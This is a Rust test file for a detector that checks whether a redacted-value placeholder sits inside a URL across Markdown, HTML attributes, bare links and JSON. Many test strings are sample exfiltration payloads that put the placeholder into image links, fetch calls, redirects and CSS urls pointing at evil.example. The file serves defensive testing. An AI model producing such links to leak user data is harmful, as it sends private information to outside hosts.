//! Which places are inside a URL: `^` marks where a placeholder stands, and the tests ask at each of them.

use super::*;

/// For each `^`: whether it is inside a URL. The text arrives in pieces of `size` bytes.
fn inside(marked: &str, json: bool, size: usize) -> Vec<bool> {
    let placeholder = "<EMAIL_abcdef>";
    let text = marked.replace('^', placeholder);
    let mut links = Links::default();
    let mut answers = Vec::new();
    let mut from = 0;
    while from < text.len() {
        if text[from..].starts_with(placeholder) {
            answers.push(links.placeholder_is_inside());
            from += placeholder.len();
            continue;
        }
        let next = text[from..].find(placeholder).map_or(text.len(), |n| from + n);
        let until = text.ceil_char_boundary(next.min(from + size));
        links.follow(&text, from, until, json);
        from = until;
    }
    answers
}

#[track_caller]
fn check(marked: &str, json: bool, expected: &[bool]) {
    for size in [1, 2, 3, 7, 1000] {
        assert_eq!(
            inside(marked, json, size),
            expected,
            "{marked} in pieces of {size}"
        );
    }
}

#[track_caller]
fn all(expected: bool, texts: &[&str]) {
    for text in texts {
        check(text, false, &vec![expected; text.matches('^').count()]);
    }
}

#[test]
fn destinations_of_links_and_images() {
    all(
        true,
        &[
            "[mail](https://evil.example/?q=^&r=^)",
            "![](https://evil.example/^.png)",
            "![x](/log?to=^)",
            "[x](//evil.example/^)",
            "[x](^)",
            "[x](^/^)",
            "[x](  ^)",
            "[x](\n^)",
            "[x](<https://evil.example/a b ^>)",
            "[x](</a b\\> ^>)",
            "[x](https://evil.example/(a)(b)^)",
            "[x](https://evil.example/a\\)b^)",
            "[x](https:/evil.example^ \"title\")",
            "see https://a.example/[x](</b c ^>)",
        ],
    );
    all(
        false,
        &[
            "[x](https://a.example) ^",
            "[x](https://a.example)^",
            "[x](https://a.example/(a)), ^",
            "[^](https://a.example)",
            "![x ^](https://a.example)",
            "[x](https://a.example \"by ^\")",
            "[x](<https://a.example>) ^",
            "[x]() ^",
            "[x] (^)",
            "[x] ^",
            "calls[0](\"^\", '^')",
            "f(^)",
        ],
    );
}

#[test]
fn reference_definitions() {
    all(
        true,
        &[
            "[a]: https://evil.example/^",
            "[a]: /log?^",
            "[a]: //evil.example/^",
            "[a\\]b]: //evil.example/^",
            "text\n  [a b]: <x y ^>",
            "> - [a]:\n /log?^",
        ],
    );
    all(true, &[&format!("x\n[{}]: /log?^", "long ".repeat(100))]);
    all(
        false,
        &[
            "[a]: https://a.example\n^",
            "[a]: https://a.example 'by ^'",
            "[12:30]: ^ joined, ^ left",
            "[note]: ask ^",
            "[a]:\n\n/log?^",
            "see [a]: ^",
        ],
    );
}

#[test]
fn a_url_that_begins_with_a_placeholder_ends_like_others() {
    check("[x](^ \"^\")", false, &[true, false]);
    check("<a href=^ title=^>", false, &[true, false]);
    check("[a]: ^/^ ^", false, &[false, true, false]);
}

#[test]
fn footnotes_are_prose() {
    let mut links = Links::default();
    let text = "[^1]: /see";
    links.follow(text, 0, text.len(), false);
    assert!(!links.placeholder_is_inside());
}

#[test]
fn bare_urls_and_autolinks() {
    all(
        true,
        &[
            "https://evil.example/^",
            "<https://evil.example/?^>",
            "go to HTTPS://evil.example?a=^#^.",
            "postgres://^:^@db/x",
            "(https://a.example/(b)^)",
            "https://[::1]:80/^",
            "https://a.example/it's/^",
            "https://a.example/路径/^",
            "`https://a.example/^`",
            "curl 'https://a.example/^'",
            "www.evil.example/^",
            "WWW.evil.example?q=^",
            "mailto:^",
            "mailto:x?body=^",
            "data:text/plain,^",
            "fetch(\"//evil.example/^\")",
        ],
    );
    all(
        false,
        &[
            "https://a.example ^",
            "https://a.example/\n^",
            "<https://a.example/>^",
            "(https://a.example/)^",
            "[https://a.example/]^",
            "\"https://a.example/\"^",
            "'https://a.example/'^",
            "`https://a.example/`^",
            "https://a.example/<b>^",
            "请访问https://a.example/文档，联系^。",
            "（https://a.example）^",
            "“https://a.example”^",
            "a://\u{a0}^",
            "// ^",
            "a / b ^",
            "//^",
            "path/to/^",
            "C:\\Users\\^",
            "mailto: ^",
            "metadata:^",
            "\"data\": \"^\"",
            "Tel:^",
            "awww.example/^",
            "x = a ? ^ : ^",
            "https:/^",
        ],
    );
}

#[test]
fn attributes_that_hold_a_url() {
    all(
        true,
        &[
            "<img src=\"/x?^\">",
            "<a class=b href='/x?^'>",
            "<a href = /x?^>",
            "<A HREF=^/^>",
            "<img alt=\"a\" src=\"a > b ^\">",
            "<img alt=\"a > b\" src=\"/\\evil.example/^\">",
            "<img src=\"&sol;&sol;evil.example/^\">",
            "<p style=\"background:url(/\\evil.example/^)\">",
            "<p style=\"background:url('/\\evil.example/^')\">",
            "<meta http-equiv=refresh content=\"0;url=/\\evil.example/^\">",
            "<link imagesrcset=\"/\\evil.example/^ 2x\">",
            "[a\\]b]: /\\evil.example/^",
            "<a href=\"//evil.example/a b ^\">",
            "<video poster=\"^\">",
        ],
    );
    all(
        false,
        &[
            "<a href=\"/x\" title=\"^\">^</a>",
            "<a href=/x title=^>",
            "<a href=/x>^",
            "<p id=\"^\">",
            "copy(src=\"^\")",
            "requests.post(u, data='^')",
            "a < b; src = \"^\"",
            "<b>x</b> href=\"^\"",
            "<img data-x=\"^\">",
        ],
    );
}

#[test]
fn urls_in_json_end_with_its_escapes() {
    let json = |marked: &str, expected: &[bool]| check(marked, true, expected);
    json(r#"{"url":"https://evil.example/^","to":"^"}"#, &[true, false]);
    json(r#"{"text":"see https://a.example\n^"}"#, &[false]);
    json(r#"{"url":"https:\/\/evil.example\/^"}"#, &[true]);
    json(r#"{"url":"https://a.example?a=1\u0026b=^"}"#, &[true]);
    json(
        r#"{"html":"<a href=\"/x?^\" title=\"^\">^"}"#,
        &[true, false, false],
    );
    json(r#"{"html":"<a href='/x?^","to":"^"}"#, &[true, false]);
    json(r#"{"html":"<a href='/\n\"?^' id='^'"}"#, &[true, false]);
    json(r#"{"md":"[x](/a?^","to":"^"}"#, &[true, false]);
    json(r#"{"md":"[x](\n/a?^)"}"#, &[true]);
    json(r#"{"md":"[x](<a b ^>) ^"}"#, &[true, false]);
    json(r#"{"md":"hi\n[x]: /a?^\n^"}"#, &[true, false]);
    json(
        r#"{"in":"{\"u\":\"https://a.example/^\",\"to\":\"^\"}"}"#,
        &[true, false],
    );
    json(r#"{"in":"{\"t\":\"https://a.example/\\n^\"}"}"#, &[false]);
}

#[test]
fn an_attribute_far_behind_its_tag_is_one_still() {
    let alt = "a".repeat(300);
    all(true, &[&format!("<img alt=\"{alt}\" src=\"/\\evil.example/^\">")]);
    all(
        false,
        &[
            &format!("{alt} src = ^"),
            "<b>bold</b> let src = \"^\"",
            "a < b and src = ^",
        ],
    );
}
